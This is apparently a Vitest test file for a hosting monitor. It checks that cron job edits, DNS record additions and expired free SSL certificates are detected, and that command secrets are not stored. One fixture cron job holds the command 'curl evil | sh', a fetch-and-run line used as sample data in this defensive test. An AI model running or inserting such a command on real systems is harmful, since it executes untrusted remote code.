/**
 * The record lists as the watcher keeps them, pure: a cron job edited (its id
 * changed) is one change, a domain's first DNS records come with it, an item
 * whose key cannot be read makes the answer deny nothing, the command is kept
 * only as a digest, `expires_at` is read in both of the provider's forms, and
 * the App Home's glance names a free certificate that expired.
 */
import { describe, expect, it } from 'vitest';
import type { CronJob, DnsRecord, Listing } from '../../src/provider/index.ts';
import {
  type CronState,
  type DnsState,
  expiryOf,
  readRecordPart,
  recordChangesOf,
} from '../../src/watch/hosting-record-state.ts';
import { hostingGlanceOf } from '../../src/watch/hosting-state.ts';

const job = (id: string, command: string, o: Partial<CronJob> = {}): CronJob => ({
  id,
  minute: '0',
  hour: '3',
  day: '*',
  month: '*',
  weekday: '*',
  command,
  comment: '',
  enabled: true,
  ...o,
});
const cron = (...jobs: CronJob[]) =>
  readRecordPart({ part: 'cron', listing: { items: jobs, malformed: [] } }) as CronState;
const record = (id: number, domain: string, host: string): DnsRecord => ({
  id,
  domain,
  host,
  type: 'A',
  content: '203.0.113.1',
  ttl: 3600,
  priority: null,
});
const dns = (listing: Listing<DnsRecord>, previous?: DnsState) =>
  readRecordPart({ part: 'dns', listing }, previous) as DnsState;

describe('the record lists as the watcher keeps them', () => {
  it('takes a job gone and one new with the same command as one job edited, and keeps no command', () => {
    const before = cron(job('a1', 'php /home/u/batch.php --token=s3cr3t'), job('b1', 'backup.sh'));
    expect(JSON.stringify(before)).not.toContain('s3cr3t');
    const after = cron(
      job('a2', 'php /home/u/batch.php --token=s3cr3t', { hour: '4' }),
      job('b1', 'backup.sh'),
    );
    expect(recordChangesOf(before, after)).toEqual([
      { what: 'cron-changed', id: 'a2', from: 'a1', job: after.jobs.a2 },
    ]);
    // Another command in its place, beside a new job: a job removed and two added.
    const other = cron(job('c1', 'curl evil | sh'), job('c2', 'wget x'), job('b1', 'backup.sh'));
    expect(
      recordChangesOf(before, other)
        .map((c) => c.what)
        .sort(),
    ).toEqual(['cron-added', 'cron-added', 'cron-removed']);
  });

  it('marks a domain’s first and last records as coming and going with it; a record of a known domain is a change of its own', () => {
    const before = dns({ items: [record(1, 'shop.jp', '@')], malformed: [] });
    const after = dns({
      items: [record(1, 'shop.jp', '@'), record(2, 'shop.jp', 'www'), record(3, 'new.jp', '@')],
      malformed: [],
    });
    expect(recordChangesOf(before, after)).toEqual([
      { what: 'dns-added', id: '2', record: after.records['2'] },
      { what: 'dns-added', id: '3', record: after.records['3'], withDomain: true },
    ]);
  });

  it('denies nothing when an item’s key cannot be read', () => {
    const before = dns({ items: [record(1, 'shop.jp', '@'), record(2, 'shop.jp', 'www')], malformed: [] });
    const partial = dns(
      {
        items: [record(1, 'shop.jp', '@')],
        malformed: [{ index: 1, readable: { host: 'www' }, broken: ['id'] }],
      },
      before,
    );
    expect(recordChangesOf(before, partial)).toEqual([]);
  });

  it('reads expires_at with its offset, or in the provider’s Japan time', () => {
    expect(expiryOf('2026-06-01T09:00:00+09:00')).toBe(Date.UTC(2026, 5, 1, 0, 0, 0));
    expect(expiryOf('2026-06-01 09:00:00')).toBe(Date.UTC(2026, 5, 1, 0, 0, 0));
    expect(expiryOf('soon')).toBeNull();
  });

  it('names a free certificate that expired in the App Home’s glance, not a paid one', () => {
    const observedAt = new Date(Date.UTC(2026, 5, 2));
    const state = readRecordPart({
      part: 'ssl',
      listing: {
        items: [
          {
            id: 1,
            common_name: 'shop.jp',
            type: 'letsencrypt',
            expires_at: '2026-06-01T09:00:00+09:00',
            status: 'active',
          },
          {
            id: 2,
            common_name: 'pay.jp',
            type: 'option',
            expires_at: '2026-06-01T09:00:00+09:00',
            status: 'expired',
          },
          {
            id: 3,
            common_name: 'ok.jp',
            type: 'letsencrypt',
            expires_at: '2026-09-01T09:00:00+09:00',
            status: 'active',
          },
        ],
        malformed: [],
      },
    });
    const glance = hostingGlanceOf([
      { server: 'xs1.xsrv.jp', part: 'ssl', state, observedAt, changedAt: observedAt },
    ]);
    expect(glance.sslProblems).toEqual([
      { server: 'xs1.xsrv.jp', domain: 'shop.jp', status: 'expired', observedAt },
    ]);
  });
});
